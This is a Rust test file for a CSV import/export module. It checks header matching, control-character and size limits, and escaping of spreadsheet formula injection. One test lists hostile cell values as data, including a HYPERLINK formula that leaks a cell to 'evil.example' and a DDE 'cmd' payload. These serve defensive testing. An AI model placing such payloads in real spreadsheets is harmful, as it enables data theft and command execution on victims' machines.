use proptest::prelude::*;

use super::*;

const COLUMNS: [CsvColumn; 3] = [
    CsvColumn::line("asset_tag").also(&["자산 태그"]),
    CsvColumn::line("model"),
    CsvColumn::lines("notes"),
];

fn write(rows: &[Vec<String>]) -> Vec<u8> {
    let mut out = SpreadsheetCsv::new(Vec::new(), true).expect("bom");
    out.row(COLUMNS.iter().map(|column| column.name))
        .expect("header");
    for row in rows {
        out.row(row).expect("row");
    }
    out.finish().expect("finish")
}

fn open(text: &str, options: CsvOptions) -> Result<CsvTable<'_>, Vec<CsvFileError>> {
    CsvTable::open(text.as_bytes(), &COLUMNS, &["asset_tag"], options)
}

/// The cells as a spreadsheet gets them: the CSV parsed without our reading back.
fn raw_cells(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .flat_map(|record| {
            record
                .expect("our own CSV parses")
                .iter()
                .map(str::to_owned)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// What OWASP says a spreadsheet may run: a cell that begins with one of these.
fn opens_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

#[test]
fn formulas_are_written_after_a_quote_and_read_back_as_they_were() {
    let values = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"클릭\")",
        "=1+1",
        "+A1*2",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "'이미 따옴표",
        "''두 개",
        " 앞 공백",
        "뒤 공백 ",
        "-5",
        "+0.25",
        "-",
        "평범한 값",
        "",
    ];
    let rows: Vec<Vec<String>> = values
        .iter()
        .map(|value| vec![(*value).to_owned(), "m".into(), (*value).to_owned()])
        .collect();
    let bytes = write(&rows);
    let cells = raw_cells(&bytes);
    let written: Vec<&str> = cells
        .iter()
        .skip(3)
        .step_by(3)
        .map(String::as_str)
        .collect();
    assert_eq!(
        written,
        [
            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"클릭\")",
            "'=1+1",
            "'+A1*2",
            "'-2+3+cmd|' /C calc'!A0",
            "'@SUM(1,2)",
            "'\t=1+1",
            "'\r=1+1",
            "''이미 따옴표",
            "'''두 개",
            "' 앞 공백",
            "'뒤 공백 ",
            "-5",
            "+0.25",
            "'-",
            "평범한 값",
            "",
        ]
    );
    let table = CsvTable::open(&bytes, &COLUMNS, &["asset_tag"], CsvOptions::default())
        .expect("our export opens");
    let back: Vec<String> = table
        .map(|row| row.expect("row").text("asset_tag"))
        .collect();
    assert_eq!(back, values);
}

#[test]
fn hand_written_cells_are_trimmed_and_headers_match_without_case_or_by_their_korean_label() {
    let mut table = open(
        "\u{feff} 자산 태그 ,MODEL\n  PT1-SRV-01 , R760 \n",
        CsvOptions::default(),
    )
    .expect("opens");
    assert_eq!(table.present(), ["asset_tag", "model"]);
    let row = table.next().expect("a row").expect("readable");
    assert_eq!(row.line, 2);
    assert_eq!(row.get("asset_tag"), Some("PT1-SRV-01"));
    assert_eq!(row.get("model"), Some("R760"));
    assert_eq!(row.get("notes"), None, "a column the file lacks");
    assert_eq!(row.text("notes"), "");
    assert!(row.problems.is_empty());
}

#[test]
fn an_unknown_column_is_refused_with_the_known_ones_unless_ignored() {
    let text = "asset_tag,modle,,notes\nA-1,R760,x,\n";
    let refused = open(text, CsvOptions::default()).err().expect("refused");
    assert_eq!(
        refused,
        [CsvFileError::UnknownColumns {
            columns: vec!["modle".into(), "(no name, column 3)".into()],
            known: vec!["asset_tag".into(), "model".into(), "notes".into()],
        }]
    );
    assert_eq!(
        refused[0].to_string(),
        "no field answers to the columns modle, (no name, column 3) \
         (the columns known are asset_tag, model, notes)"
    );
    let mut table = open(
        text,
        CsvOptions {
            ignore_unknown_columns: true,
        },
    )
    .expect("opens when told to ignore");
    assert_eq!(table.ignored(), ["modle", "(no name, column 3)"]);
    assert_eq!(table.present(), ["asset_tag", "notes"]);
    let row = table.next().expect("row").expect("readable");
    assert_eq!(row.get("model"), None);
}

#[test]
fn every_header_problem_is_listed_at_once() {
    let refused = open("model,Model,x\n", CsvOptions::default())
        .err()
        .expect("refused");
    assert_eq!(
        refused,
        [
            CsvFileError::DuplicateColumn {
                column: "Model".into()
            },
            CsvFileError::MissingColumns {
                columns: vec!["asset_tag".into()]
            },
            CsvFileError::UnknownColumns {
                columns: vec!["x".into()],
                known: vec!["asset_tag".into(), "model".into(), "notes".into()],
            },
        ]
    );
    for empty in ["", "\u{feff}", ",,\n", "\n\n"] {
        assert_eq!(
            open(empty, CsvOptions::default()).err(),
            Some(vec![CsvFileError::Empty]),
            "{empty:?}"
        );
    }
}

#[test]
fn a_control_character_is_refused_with_its_line_and_column_and_notes_keep_line_breaks() {
    let text = "asset_tag,model,notes\n\
                A-1,R760,\"첫 줄\r\n둘째 줄\"\n\
                \"A-\u{0}2\",R760,\n\
                A-3,\"R7\n60\",\"벨\u{7}\"\n";
    let rows: Vec<CsvRow> = open(text, CsvOptions::default())
        .expect("opens")
        .map(|row| row.expect("readable"))
        .collect();
    assert_eq!(
        rows.iter().map(|row| row.line).collect::<Vec<_>>(),
        [2, 4, 5],
        "a row counts from the line it starts on"
    );
    assert!(rows[0].problems.is_empty(), "{:?}", rows[0].problems);
    assert_eq!(rows[0].get("notes"), Some("첫 줄\r\n둘째 줄"));
    let found: Vec<(Option<u32>, &str, &str, &str)> = rows
        .iter()
        .flat_map(|row| &row.problems)
        .map(|p| {
            (
                p.line,
                p.field.as_str(),
                p.code.as_str(),
                p.detail["character"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            (Some(4), "asset_tag", "control_character", "U+0000"),
            (Some(5), "model", "control_character", "U+000A"),
            (Some(5), "notes", "control_character", "U+0007"),
        ]
    );
    assert_eq!(
        rows[1].problems[0].to_string(),
        "line 4: asset_tag: contains the control character U+0000 at position 3"
    );
    assert_eq!(rows[1].problems[0].value, "A-␀2");
}

#[test]
fn a_malformed_row_names_its_line_and_ends_the_rows() {
    let rows: Vec<Result<u32, CsvFileError>> = open(
        "asset_tag,model\nA-1,R760\nA-2,R760,extra\nA-3,R760\n",
        CsvOptions::default(),
    )
    .expect("opens")
    .map(|row| row.map(|row| row.line))
    .collect();
    assert_eq!(
        rows,
        [
            Ok(2),
            Err(CsvFileError::Malformed {
                line: 3,
                message: "expected 2 fields, found 3".into()
            })
        ]
    );
    let not_utf8 = b"asset_tag\nA-1\n\xff\xfe\n";
    let rows: Vec<_> = CsvTable::open(not_utf8, &COLUMNS, &[], CsvOptions::default())
        .expect("opens")
        .map(|row| row.map(|row| row.line))
        .collect();
    assert_eq!(
        rows,
        [
            Ok(2),
            Err(CsvFileError::Malformed {
                line: 3,
                message: "the text is not UTF-8 (save the file as CSV UTF-8)".into()
            })
        ]
    );
}

#[test]
fn a_file_or_a_cell_past_its_limit_is_refused() {
    let huge = vec![b'a'; MAX_CSV_BYTES as usize + 1];
    assert_eq!(
        CsvTable::open(&huge, &COLUMNS, &[], CsvOptions::default()).err(),
        Some(vec![CsvFileError::TooLarge {
            bytes: MAX_CSV_BYTES + 1,
            limit: MAX_CSV_BYTES
        }])
    );
    let text = format!(
        "asset_tag,notes\nA-1,{}\n",
        "가".repeat(MAX_CELL_BYTES / 3 + 1)
    );
    let row = open(&text, CsvOptions::default())
        .expect("opens")
        .next()
        .expect("row")
        .expect("readable");
    assert_eq!(row.problems.len(), 1);
    assert_eq!(row.problems[0].code, "cell_too_long");
    assert_eq!(row.problems[0].field, "notes");
    assert!(row.problems[0].value.chars().count() <= crate::text::MAX_SHOWN_CHARS + 1);
    assert_eq!(row.get("notes"), Some(""), "the cell is not handed on");
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        // Short values made of the characters the rule is about.
        "[=+\\-@'\t\r\n \"',0-9.a가\u{0}\u{85}]{0,8}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn a_cell_reads_back_as_written_for_every_string(value in any_text()) {
        let cell = write_cell(&value);
        prop_assert_eq!(read_cell(&cell), value.as_str());
    }

    #[test]
    fn no_written_cell_opens_as_a_formula_but_a_plain_number(value in any_text()) {
        let cell = write_cell(&value);
        let number = value.parse::<f64>().is_ok()
            && value.trim_start_matches(['+', '-']).bytes().all(|b| b.is_ascii_digit() || b == b'.');
        prop_assert!(!opens_as_formula(&cell) || number, "{:?} -> {:?}", value, cell);
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

    #[test]
    fn an_export_imports_back_to_every_value_it_held(
        rows in proptest::collection::vec(proptest::collection::vec(any_text(), 3), 0..12)
    ) {
        let bytes = write(&rows);
        for cell in raw_cells(&bytes) {
            let number = cell.trim_start_matches(['+', '-']).bytes().all(|b| b.is_ascii_digit() || b == b'.');
            prop_assert!(!opens_as_formula(&cell) || number, "{:?}", cell);
        }
        let table = CsvTable::open(&bytes, &COLUMNS, &["asset_tag"], CsvOptions::default())
            .expect("our export opens");
        let back: Vec<Vec<String>> = table
            .map(|row| {
                let row = row.expect("our export reads");
                COLUMNS.iter().map(|column| row.text(column.name)).collect()
            })
            .collect();
        prop_assert_eq!(back, rows);
    }
}
